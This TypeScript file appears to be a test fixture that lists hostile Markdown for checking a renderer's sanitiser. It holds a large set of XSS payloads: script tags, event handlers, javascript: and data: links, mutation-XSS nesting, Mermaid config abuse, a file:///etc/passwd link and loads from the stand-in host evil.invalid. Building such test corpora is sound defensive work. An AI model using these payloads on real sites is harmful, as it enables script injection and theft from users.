/**
 * Markdown that wants to act. `HIT` in it stands for a script that would be seen; addresses below `evil.invalid` would be
 * requests that are seen.
 */
const HIT = 'globalThis.hit=1';

const TAGS = [
  `<script>${HIT}</script>`,
  `<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script\n>${HIT}</script\n>`,
  `<img src=x onerror="${HIT}">`,
  `<img src="https://evil.invalid/pixel.png">`,
  `<IMG """><SCRIPT>${HIT}</SCRIPT>">`,
  `<img src=x:x onerror=${HIT}//`,
  `<svg onload=${HIT}></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/>#x"/></svg>`,
  `<svg><style><img src=x onerror=${HIT}></style></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `<math><a xlink:href=javascript:${HIT}>x</a></math>`,
  `<math><mi//xlink:href="data:x,<script>${HIT}</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${HIT} src>">`,
  `<xmp><p title="</xmp><svg/onload=${HIT}>">`,
  `<textarea><img src=x onerror=${HIT}></textarea>`,
  `<title><img src=x onerror=${HIT}></title>`,
  `<template><img src=x onerror=${HIT}></template>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe src="https://evil.invalid/frame"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<embed src="javascript:${HIT}">`,
  `<base href="https://evil.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.invalid/away">`,
  `<link rel=stylesheet href="https://evil.invalid/x.css">`,
  `<style>@import 'https://evil.invalid/y.css'; body{display:none}</style>`,
  `<body onload=${HIT}>`,
  `<details open ontoggle=${HIT}>x</details>`,
  `<video><source onerror=${HIT}></video>`,
  `<video src="https://evil.invalid/v.mp4" autoplay onloadstart=${HIT}></video>`,
  `<audio src=x onerror=${HIT}></audio>`,
  `<input autofocus onfocus=${HIT}>`,
  `<select autofocus onfocus=${HIT}></select>`,
  `<marquee onstart=${HIT}>x</marquee>`,
  `<div style="background:url(https://evil.invalid/bg.png)">x</div>`,
  `<a href="javascript:${HIT}" id=clickme>x</a>`,
  `<form action="https://evil.invalid/form"><button autofocus>x</button></form>`,
  `<!--[if gte IE 4]><script>${HIT}</script><![endif]-->`,
  `<!-- --!><img src=x onerror=${HIT}> -->`,
  `<![CDATA[<img src=x onerror=${HIT}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${HIT}>`,
  `&lt;img src=x onerror=${HIT}&gt;`,
  `&#60;img src=x onerror=${HIT}&#62;`,
  `\\<img src=x onerror=${HIT}\\>`,
];

const LINKS = [
  `[x](javascript:${HIT})`,
  `[x](JaVaScRiPt:${HIT})`,
  `[x](javascript&#58;${HIT})`,
  `[x](javascript&colon;${HIT})`,
  `[x](&#106;avascript:${HIT})`,
  `[x](&#x6A&#x61&#x76ascript:${HIT})`,
  `[x](java%0ascript:${HIT})`,
  `[x](<java\tscript:${HIT}>)`,
  `[x](<  javascript:${HIT}>)`,
  `[x](\u0001javascript:${HIT})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html,<script>${HIT}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.invalid/slashes)`,
  `[x](https:javascript:${HIT})`,
  `[x](http://evil.invalid/"onmouseover="${HIT})`,
  `[x](https://x.invalid "title\\" onmouseover=${HIT}")`,
  `[x][ref]\n\n[ref]: javascript:${HIT}`,
  `[x][ref]\n\n[ref]: <data:text/html,x> "y"`,
  `<javascript:${HIT}>`,
  `<data:text/html,${HIT}>`,
  `<vbscript:x>`,
  `[a](<javascript:${HIT}> 'b')`,
  `[![x](x onerror=${HIT})](javascript:${HIT})`,
  `javascript:${HIT}`,
  `www.evil.invalid"onclick=${HIT}`,
];

const IMAGES = [
  `![x](https://evil.invalid/i.png)`,
  `![x](javascript:${HIT})`,
  `![x" onerror="${HIT}](x)`,
  `![x](x" onerror="${HIT})`,
  `![x](data:text/html,<script>${HIT}</script>)`,
  `![x](data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/%3E)`,
  `![x](//evil.invalid/j.png)`,
  `![x][img]\n\n[img]: https://evil.invalid/k.png`,
];

function diagram(source: string): string {
  return `\`\`\`mermaid\n${source}\n\`\`\``;
}

const DIAGRAMS = [
  diagram(`graph TD\nA-->B\nclick A href "javascript:${HIT}"`),
  diagram(`graph TD\nA-->B\nclick A call ${HIT}()`),
  diagram(`%%{init: {"securityLevel":"loose"}}%%\ngraph TD\nA["<img src=x onerror=${HIT}>"]-->B`),
  diagram(`%%{init: {"themeCSS":"@import 'https://evil.invalid/t.css'"}}%%\ngraph TD\nA-->B`),
  diagram(`graph TD\nA["<iframe src='https://evil.invalid/f'></iframe>"]-->B`),
  diagram(`graph TD\nA["<script>${HIT}</script>"]-->B`),
  diagram(`sequenceDiagram\nA->>B: <img src=x onerror=${HIT}>`),
  diagram(`%%{init: {"flowchart":{"htmlLabels":true}}}%%\ngraph TD\nA["<svg onload=${HIT}>"]`),
];

const OTHERS = [
  `\`<img src=x onerror=${HIT}>\``,
  `\`\`\`html\n<script>${HIT}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${HIT}>\nx\n\`\`\``,
  `| <img src=x onerror=${HIT}> |\n|---|\n| [x](javascript:${HIT}) |`,
  `# <svg onload=${HIT}>`,
  `> <details open ontoggle=${HIT}>`,
  `- [x] <img src=x onerror=${HIT}>`,
  `**<b onmouseover=${HIT}>x</b>**`,
];

export const HOSTILE_MARKDOWN: readonly string[] = [...TAGS, ...LINKS, ...IMAGES, ...DIAGRAMS, ...OTHERS];
